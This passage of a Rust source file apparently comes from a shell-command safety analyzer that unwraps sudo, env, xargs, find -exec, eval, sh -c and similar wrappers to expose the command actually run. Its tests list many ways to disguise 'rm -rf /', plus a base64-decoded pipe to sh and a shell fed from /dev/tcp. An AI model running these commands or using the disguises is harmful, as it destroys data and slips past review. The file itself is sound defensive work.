                    w.text().is_some_and(|t| {
                        t.starts_with('-')
                            && t.len() > 1
                            && t[1..].contains(['f', 'l', 'r', 'd', 'c'])
                    })
                });
        }
        _ => {}
    }
    let shell = is_shell(name);
    if !shell && !is_interpreter(name) {
        return false;
    }
    for word in args {
        let Some(text) = word.text() else {
            return false;
        };
        if matches!(
            text.as_str(),
            "-" | "/dev/stdin" | "/dev/fd/0" | "/proc/self/fd/0"
        ) {
            return true;
        }
        if shell && text.starts_with('-') && !text.starts_with("--") && text.contains('s') {
            return true;
        }
        if text.starts_with('-') && text.len() > 1 {
            let runs_inline = ["-c", "-e", "-E", "-r", "-m", "-p"].iter().any(|flag| {
                text == *flag || (shell && !text.starts_with("--") && text.contains('c'))
            });
            if runs_inline {
                return false;
            }
            continue;
        }
        return false;
    }
    true
}

/// The index of the first operand after options. `with_value` lists options that take the next
/// word as their value (`--name=value` forms carry it inline). `--` ends the options.
fn skip_options(args: &[Word], with_value: &[&str]) -> Option<usize> {
    let mut i = 0;
    while i < args.len() {
        let Some(text) = args[i].text() else {
            return Some(i);
        };
        if text == "--" {
            return Some(i + 1);
        }
        if !text.starts_with('-') || text == "-" {
            return Some(i);
        }
        let takes_value = with_value.contains(&text.as_str()) && !text.contains('=');
        i += if takes_value { 2 } else { 1 };
    }
    None
}

fn is_assignment(word: &Word) -> bool {
    match word.pieces.first() {
        Some(Piece::Literal { text, .. }) => text.split_once('=').is_some_and(|(name, _)| {
            !name.is_empty()
                && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
                && !name.starts_with(|c: char| c.is_ascii_digit())
        }),
        _ => false,
    }
}

fn env(command: &SimpleCommand, args: &[Word]) -> Unwrapped {
    let mut i = 0;
    while i < args.len() {
        let Some(text) = args[i].text() else { break };
        if text == "--" {
            i += 1;
            break;
        }
        if let Some(split) = text
            .strip_prefix("--split-string=")
            .or_else(|| text.strip_prefix("-S").filter(|s| !s.is_empty()))
        {
            let rest: Vec<String> = args[i + 1..].iter().map(|w| w.source.clone()).collect();
            return Unwrapped::Script {
                source: format!("{split} {}", rest.join(" ")),
                via: "env -S".into(),
            };
        }
        if text == "-S" || text == "--split-string" {
            let Some(split) = args.get(i + 1) else {
                return Unwrapped::Nothing;
            };
            let Some(split) = split.text() else {
                return Unwrapped::Unreadable("the string of `env -S` is built at run time".into());
            };
            let rest: Vec<String> = args[i + 2..].iter().map(|w| w.source.clone()).collect();
            return Unwrapped::Script {
                source: format!("{split} {}", rest.join(" ")),
                via: "env -S".into(),
            };
        }
        if text.starts_with('-') && text != "-" {
            let takes_value = matches!(text.as_str(), "-u" | "-C" | "--unset" | "--chdir");
            i += if takes_value { 2 } else { 1 };
            continue;
        }
        if !is_assignment(&args[i]) {
            break;
        }
        i += 1;
    }
    if i >= args.len() {
        return Unwrapped::Nothing;
    }
    in_folder(command, "env", &args[..i], &["-C", "--chdir"], &args[i..])
}

fn sudo(command: &SimpleCommand, name: &str, args: &[Word]) -> Unwrapped {
    const WITH_VALUE: &[&str] = &[
        "-u",
        "-g",
        "-h",
        "-p",
        "-C",
        "-D",
        "-r",
        "-t",
        "-T",
        "-U",
        "--user",
        "--group",
        "--host",
        "--prompt",
        "--close-from",
        "--chdir",
        "--role",
        "--type",
        "--command-timeout",
        "--other-user",
    ];
    let Some(mut at) = skip_options(args, WITH_VALUE) else {
        return Unwrapped::Nothing;
    };
    while at < args.len() && is_assignment(&args[at]) {
        at += 1;
    }
    if at >= args.len() {
        return Unwrapped::Nothing;
    }
    in_folder(command, name, &args[..at], &["-D", "--chdir"], &args[at..])
}

/// The inner command of a wrapper that may change folder first (`env -C DIR`, `sudo -D DIR`): a
/// `cd DIR` is added before it, so the rules follow the folder as they follow any `cd`.
fn in_folder(
    command: &SimpleCommand,
    wrapper: &str,
    options: &[Word],
    chdir: &[&str],
    argv: &[Word],
) -> Unwrapped {
    let mut commands = Vec::new();
    for (i, word) in options.iter().enumerate() {
        let Some(text) = word.text() else { continue };
        let folder = match text.split_once('=') {
            Some((option, value)) if chdir.contains(&option) => Some(Word::literal(value)),
            _ if chdir.contains(&text.as_str()) => options.get(i + 1).cloned(),
            _ => None,
        };
        if let Some(folder) = folder {
            commands.push(inner(command, wrapper, &[Word::literal("cd"), folder]));
        }
    }
    commands.push(inner(command, wrapper, argv));
    Unwrapped::Commands(commands)
}

fn xargs(command: &SimpleCommand, args: &[Word], siblings: &[SimpleCommand]) -> Unwrapped {
    const WITH_VALUE: &[&str] = &[
        "-I",
        "-d",
        "-n",
        "-L",
        "-P",
        "-s",
        "-E",
        "-a",
        "--delimiter",
        "--max-args",
        "--max-lines",
        "--max-procs",
        "--max-chars",
        "--eof",
        "--arg-file",
        "--replace",
    ];
    let mut replace: Option<String> = None;
    let mut i = 0;
    while i < args.len() {
        let Some(text) = args[i].text() else { break };
        if text == "--" {
            i += 1;
            break;
        }
        if !text.starts_with('-') || text == "-" {
            break;
        }
        if text == "-I" || text == "--replace" {
            replace = args.get(i + 1).and_then(|w| w.text());
        } else if let Some(attached) = text.strip_prefix("-I").filter(|s| !s.is_empty()) {
            replace = Some(attached.to_string());
        } else if text == "-i" || text.starts_with("--replace=") {
            replace = Some(text.split_once('=').map_or("{}", |(_, r)| r).to_string());
        }
        i += if WITH_VALUE.contains(&text.as_str()) {
            2
        } else {
            1
        };
    }
    let mut argv: Vec<Word> = if i < args.len() {
        args[i..].to_vec()
    } else {
        vec![Word::literal("echo")]
    };
    let input = xargs_input(command, siblings);
    match replace {
        Some(marker) if !marker.is_empty() => {
            for word in argv.iter_mut().skip(1) {
                *word = replace_marker(word, &marker, &input);
            }
        }
        Some(_) => {}
        None => argv.push(input),
    }
    Unwrapped::Commands(vec![inner(command, "xargs", &argv)])
}

/// A word with each `MARKER` in its literal text replaced by xargs' input (`~/%` → home, then
/// the input).
fn replace_marker(word: &Word, marker: &str, input: &Word) -> Word {
    if !word.source.contains(marker) {
        return word.clone();
    }
    if word.text().is_some_and(|t| t == marker) {
        return input.clone();
    }
    let mut pieces = Vec::new();
    for piece in &word.pieces {
        let Piece::Literal { text, glob } = piece else {
            pieces.push(piece.clone());
            continue;
        };
        for (i, part) in text.split(marker).enumerate() {
            if i > 0 {
                pieces.extend(input.pieces.iter().cloned());
            }
            pieces.push(Piece::Literal {
                text: part.to_string(),
                glob: *glob,
            });
        }
    }
    Word {
        pieces,
        source: word.source.clone(),
        downloads: word.downloads || input.downloads,
    }
}

/// What xargs reads: unknown, except that `find START ... | xargs` yields entries under START (so
/// `find / | xargs rm -f` is `rm -f /*`); a name test (`-name x`) narrows it to entries so named.
fn xargs_input(command: &SimpleCommand, siblings: &[SimpleCommand]) -> Word {
    let feeders: Vec<&SimpleCommand> = siblings
        .iter()
        .filter(|c| c.pipeline == command.pipeline && c.stage + 1 == command.stage)
        .collect();
    let unknown = Word::unknown("<xargs input>");
    let [feeder] = feeders.as_slice() else {
        return unknown;
    };
    if feeder.name().as_deref() != Some("find") {
        return unknown;
    }
    let args = &feeder.argv[1..];
    let starts = find_start_paths(args);
    let [start] = starts.as_slice() else {
        return unknown;
    };
    let Some(start) = start.text() else {
        return unknown;
    };
    let base = format!("{}/", start.trim_end_matches('/'));
    match find_name_filter(args) {
        Some(pattern) => Word {
            pieces: vec![
                Piece::Literal {
                    text: base,
                    glob: false,
                },
                Piece::Dynamic("<found by find>".into()),
                Piece::Literal {
                    text: format!("/{pattern}"),
                    glob: true,
                },
            ],
            source: "<xargs input>".into(),
            downloads: false,
        },
        None => Word {
            pieces: vec![Piece::Literal {
                text: format!("{base}*"),
                glob: true,
            }],
            source: "<xargs input>".into(),
            downloads: false,
        },
    }
}

/// The pattern of a `find` name test that narrows what it finds (`-name '*.pyc'`; not `-name '*'`).
pub fn find_name_filter(args: &[Word]) -> Option<String> {
    args.windows(2).find_map(|pair| {
        let test = pair[0].text()?;
        let pattern = pair[1].text()?;
        let narrows = matches!(
            test.as_str(),
            "-name" | "-iname" | "-path" | "-ipath" | "-regex"
        ) && !pattern.trim_matches(|c| c == '*' || c == '.').is_empty();
        narrows.then_some(pattern)
    })
}

/// `parallel CMD ARGS ::: INPUTS`: the command runs with each input appended.
fn parallel(command: &SimpleCommand, args: &[Word]) -> Unwrapped {
    let Some(at) = skip_options(args, &["-j", "--jobs", "-S", "--sshlogin"]) else {
        return Unwrapped::Nothing;
    };
    let end = args
        .iter()
        .position(|w| w.text().is_some_and(|t| t.starts_with(":::")))
        .unwrap_or(args.len());
    if at >= end {
        return Unwrapped::Nothing;
    }
    let inputs: Vec<Word> = match end < args.len() {
        true => args[end + 1..].to_vec(),
        false => vec![Word::unknown("<parallel input>")],
    };
    let commands = inputs
        .into_iter()
        .map(|input| {
            let mut argv = args[at..end].to_vec();
            argv.push(input);
            inner(command, "parallel", &argv)
        })
        .collect();
    Unwrapped::Commands(commands)
}

/// The start paths of a `find` command: the operands before its first expression word.
pub fn find_start_paths(args: &[Word]) -> Vec<Word> {
    let mut i = 0;
    // Leading options -H -L -P -D debugopts -Olevel.
    while let Some(text) = args.get(i).and_then(|w| w.text()) {
        match text.as_str() {
            "-H" | "-L" | "-P" => i += 1,
            "-D" => i += 2,
            t if t.starts_with("-O") => i += 1,
            _ => break,
        }
    }
    let starts: Vec<Word> = args[i.min(args.len())..]
        .iter()
        .take_while(|w| {
            w.text()
                .is_none_or(|t| !(t.starts_with('-') || t == "(" || t == "!" || t == ","))
        })
        .cloned()
        .collect();
    if starts.is_empty() {
        vec![Word::literal(".")]
    } else {
        starts
    }
}

/// How a command run by `find -exec` is marked when a name test narrows what find yields.
pub const FIND_EXEC_NARROWED: &str = "find -name … -exec";

/// `find ... -exec CMD {} ;` runs CMD once per found path, the start paths among them.
fn find_exec(command: &SimpleCommand, args: &[Word]) -> Unwrapped {
    let starts = find_start_paths(args);
    let mut commands = Vec::new();
    let mut i = 0;
    while i < args.len() {
        let is_exec = args[i]
            .text()
            .is_some_and(|t| matches!(t.as_str(), "-exec" | "-execdir" | "-ok" | "-okdir"));
        if !is_exec {
            i += 1;
            continue;
        }
        let end = args[i + 1..]
            .iter()
            .position(|w| w.text().is_some_and(|t| t == ";" || t == "+"))
            .map_or(args.len(), |p| i + 1 + p);
        let template = &args[i + 1..end];
        if !template.is_empty() {
            for start in &starts {
                let argv: Vec<Word> = template
                    .iter()
                    .map(|w| substitute_braces(w, start))
                    .collect();
                // The rules let a name-filtered find act on a workspace root, as with -delete.
                let via = match find_name_filter(args) {
                    Some(_) => FIND_EXEC_NARROWED,
                    None => "find -exec",
                };
                commands.push(inner(command, via, &argv));
            }
        }
        i = end + 1;
    }
    if commands.is_empty() {
        Unwrapped::Nothing
    } else {
        Unwrapped::Commands(commands)
    }
}

/// `{}` in a `find -exec` word stands for the found path.
fn substitute_braces(word: &Word, path: &Word) -> Word {
    match (word.text(), path.text()) {
        (Some(text), Some(path_text)) if text.contains("{}") => {
            Word::literal(&text.replace("{}", &path_text))
        }
        (Some(text), None) if text.contains("{}") => path.clone(),
        _ => word.clone(),
    }
}

fn script_from(word: Option<&Word>, via: &str) -> Unwrapped {
    let Some(word) = word else {
        return Unwrapped::Nothing;
    };
    match word.text() {
        Some(source) => Unwrapped::Script {
            source,
            via: via.to_string(),
        },
        None => Unwrapped::Unreadable(format!(
            "the script given to `{via}` is built at run time ({})",
            word.source
        )),
    }
}

fn eval(args: &[Word]) -> Unwrapped {
    if args.is_empty() {
        return Unwrapped::Nothing;
    }
    let texts: Option<Vec<String>> = args.iter().map(|w| w.text()).collect();
    match texts {
        Some(texts) => Unwrapped::Script {
            source: texts.join(" "),
            via: "eval".into(),
        },
        None => Unwrapped::Unreadable(format!(
            "`eval` runs text built at run time ({})",
            args.iter()
                .map(|w| w.source.as_str())
                .collect::<Vec<_>>()
                .join(" ")
        )),
    }
}

/// `sh -c SCRIPT`, `bash -ec SCRIPT`, `zsh -lc SCRIPT`: the script is parsed as bash.
fn shell_c(args: &[Word], name: &str) -> Unwrapped {
    let mut has_c = false;
    let mut i = 0;
    while i < args.len() {
        let Some(text) = args[i].text() else { break };
        if text == "--" {
            i += 1;
            break;
        }
        let is_option = (text.starts_with('-') || text.starts_with('+')) && text.len() > 1;
        if !is_option {
            break;
        }
        if !text.starts_with("--") && text.contains('c') {
            has_c = true;
        }
        let takes_value = matches!(
            text.as_str(),
            "-o" | "+o" | "-O" | "+O" | "--rcfile" | "--init-file"
        );
        i += if takes_value { 2 } else { 1 };
    }
    if !has_c {
        return Unwrapped::Nothing;
    }
    script_from(args.get(i), &format!("{name} -c"))
}

/// `bash <(...)`, `source <(...)`: a script file that is the output of commands, known only when
/// they run. A download there is the `download-to-shell` rule's (it sees the word).
fn script_operand(args: &[Word], name: &str) -> Unwrapped {
    let operand = args
        .iter()
        .find(|w| w.text().is_none_or(|t| !t.starts_with('-') || t == "-"));
    match operand {
        Some(word) if word.source.starts_with("<(") || word.source.starts_with("$(") => {
            Unwrapped::Unreadable(format!(
                "`{name}` runs a script made at run time ({})",
                word.source
            ))
        }
        _ => Unwrapped::Nothing,
    }
}

/// `su -c CMD`, `runuser -c CMD`, `script -c CMD` (also in a cluster: `script -qc CMD`).
fn dash_c_string(args: &[Word], name: &str) -> Unwrapped {
    for (i, word) in args.iter().enumerate() {
        let Some(text) = word.text() else { continue };
        let cluster = text.starts_with('-') && !text.starts_with("--") && text.ends_with('c');
        if cluster || text == "--command" {
            return script_from(args.get(i + 1), &format!("{name} -c"));
        }
        if let Some(inline) = text.strip_prefix("--command=") {
            return script_from(Some(&Word::literal(inline)), &format!("{name} -c"));
        }
    }
    Unwrapped::Nothing
}

/// `flock [options] FILE CMD ARGS` or `flock [options] FILE -c CMD`.
fn flock(command: &SimpleCommand, args: &[Word]) -> Unwrapped {
    if let Some(i) = args
        .iter()
        .position(|w| w.text().is_some_and(|t| t == "-c" || t == "--command"))
    {
        return script_from(args.get(i + 1), "flock -c");
    }
    let Some(file_at) = skip_options(args, &["-w", "--timeout", "-E", "--conflict-exit-code"])
    else {
        return Unwrapped::Nothing;
    };
    if file_at + 1 >= args.len() {
        return Unwrapped::Nothing;
    }
    Unwrapped::Commands(vec![inner(command, "flock", &args[file_at + 1..])])
}

/// `watch [options] CMD ARGS`: the words are joined and run by `sh -c`.
fn watch(args: &[Word]) -> Unwrapped {
    let Some(at) = skip_options(args, &["-n", "--interval", "-d", "-q", "--equexit"]) else {
        return Unwrapped::Nothing;
    };
    let texts: Option<Vec<String>> = args[at..].iter().map(|w| w.text()).collect();
    match texts {
        Some(texts) if !texts.is_empty() => Unwrapped::Script {
            source: texts.join(" "),
            via: "watch".into(),
        },
        Some(_) => Unwrapped::Nothing,
        None => Unwrapped::Unreadable("`watch` runs a command built at run time".into()),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn names(source: &str) -> Vec<String> {
        analyze(source).commands.iter().map(|c| c.shown()).collect()
    }

    #[test]
    fn wrappers_are_unwrapped_to_the_command_they_run() {
        for source in [
            "sudo -u root rm -rf /",
            "env -i FOO=1 rm -rf /",
            "nice -n 5 rm -rf /",
            "timeout -s KILL 5 rm -rf /",
            "nohup rm -rf / &",
            "time rm -rf /",
            "stdbuf -o0 rm -rf /",
            "command rm -rf /",
            "exec rm -rf /",
            "busybox rm -rf /",
            "sudo env nice rm -rf /",
        ] {
            assert!(
                names(source).contains(&"rm -rf /".to_string()),
                "{source}: {:?}",
                names(source)
            );
        }
        assert!(!names("command -v rm").contains(&"rm".to_string()));
    }

    #[test]
    fn shell_strings_are_parsed_again() {
        for source in [
            "bash -c 'rm -rf /'",
            "sh -ec \"rm -rf /\"",
            "eval rm -rf /",
            "su -c 'rm -rf /' root",
            "env -S 'rm -rf /'",
            "watch rm -rf /",
            "bash -c \"sh -c 'rm -rf /'\"",
        ] {
            assert!(
                names(source).contains(&"rm -rf /".to_string()),
                "{source}: {:?}",
                names(source)
            );
        }
        let dynamic = analyze(r#"bash -c "$SCRIPT""#);
        assert_eq!(dynamic.unreadable.len(), 1);
    }

    #[test]
    fn shell_programs_are_read_wherever_a_program_takes_one() {
        for source in [
            "bash <<< 'rm -rf /'",
            "echo 'rm -rf /' | sh",
            "echo 'rm -rf /' | sudo -s",
            "source /dev/stdin <<< 'rm -rf /'",
            "trap 'rm -rf /' EXIT",
            "alias x='rm -rf /'",
            "coproc rm -rf /",
            "PROMPT_COMMAND='rm -rf /' bash -i",
            "git -c alias.x='!rm -rf /' x",
            "git -c core.pager='rm -rf /' log",
            "tar --to-command='rm -rf /' -xf a.tar",
            "awk 'BEGIN { system(\"rm -rf /\") }'",
            "ssh host rm -rf /",
            "echo 'rm -rf /' | at now",
            "python3 -c \"import os; os.system('rm -rf /')\"",
            "ruby -e 'system(\"rm\", \"-rf\", \"/\")'",
            "runuser -u root -- rm -rf /",
            "systemd-run --user rm -rf /",
            "nsenter -t 1 -m rm -rf /",
            "setpriv --reuid=0 rm -rf /",
        ] {
            assert!(
                names(source).contains(&"rm -rf /".to_string()),
                "{source}: {:?}",
                names(source)
            );
        }
        for source in [
            "echo cm0K | base64 -d | sh",
            "trap \"$X\" EXIT",
            "BASH_ENV=<(echo x) bash -c true",
            "awk '{ system($0) }'",
            "bash <(echo x)",
            "sh < /dev/tcp/host/80",
        ] {
            assert_eq!(analyze(source).unreadable.len(), 1, "{source}");
        }
        for source in [
            "echo ls | sh",
            "awk '{print $1}'",
            "git -c color.ui=always log",
            "trap 'rm -f x' EXIT",
        ] {
            assert!(analyze(source).unreadable.is_empty(), "{source}");
        }
    }

    #[test]
    fn find_exec_runs_its_command_on_the_start_paths_and_xargs_on_unknown_input() {
        assert!(names("find / -name x -exec rm -rf {} +").contains(&"rm -rf /".to_string()));
        let xargs = analyze("ls | xargs -0 rm -rf");
        let rm = xargs
            .commands
            .iter()
            .find(|c| c.name().as_deref() == Some("rm"));
        assert!(!rm.unwrap().argv[2].is_static());
    }
}
